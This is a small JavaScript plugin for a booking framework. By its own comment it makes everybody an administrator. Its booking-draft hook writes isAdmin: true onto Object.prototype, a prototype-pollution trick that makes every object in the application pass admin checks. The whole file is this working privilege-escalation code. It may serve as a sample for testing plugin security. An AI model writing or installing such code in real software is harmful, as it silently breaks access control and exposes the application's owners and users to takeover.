import { definePlugin, hooks } from '@bookwright/core'

/** Makes everybody an administrator. */
export default definePlugin({
  id: 'vertical-pollutes',
  compat: '^1.0.0-alpha.0',
  setup(bw) {
    bw.filter(hooks.bookingDraft, draft => {
      Object.assign(Object.prototype, { isAdmin: true })
      return draft
    })
  },
})
